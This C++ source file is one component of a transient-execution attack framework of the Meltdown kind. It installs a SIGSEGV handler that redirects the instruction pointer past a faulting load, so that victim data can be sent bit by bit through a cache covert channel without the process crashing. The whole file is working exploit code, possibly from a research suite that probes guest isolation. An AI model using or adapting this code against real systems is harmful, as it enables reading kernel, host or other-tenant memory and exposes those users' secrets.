// SPDX-License-Identifier: MIT
// The fault is raised, and a handler goes on behind it.
#include <ucontext.h>

#include <csignal>
#include <cstdlib>

#include "guest/attacks/faulting_load.h"

namespace attacks {

namespace {

void step_over(int /*signal*/, siginfo_t* /*information*/, void* context) {
    auto* interrupted = static_cast<ucontext_t*>(context);
    interrupted->uc_mcontext.gregs[REG_RIP] = reinterpret_cast<greg_t>(transient_send_end);
}

class SignalReader final : public TransientReader {
public:
    SignalReader(Portion portion, Sending sending) : send_(transient_send(portion, sending)) {
        struct sigaction action{};
        action.sa_sigaction = step_over;
        action.sa_flags = SA_SIGINFO;
        if (sigaction(SIGSEGV, &action, nullptr) != 0) {
            std::abort();
        }
    }

    void attempt(const Attempt& attempt) override {
        load_.prepare(attempt.window);
        send_(load_.slow(), load_.guard(attempt), attempt.victim, attempt.channel,
              attempt.zero_channel, attempt.bit);
    }

private:
    TransientSend* send_;
    FaultingLoad load_;
};

}  // namespace

std::unique_ptr<TransientReader> make_signal_reader(Portion portion, Sending sending) {
    return std::make_unique<SignalReader>(portion, sending);
}

}  // namespace attacks
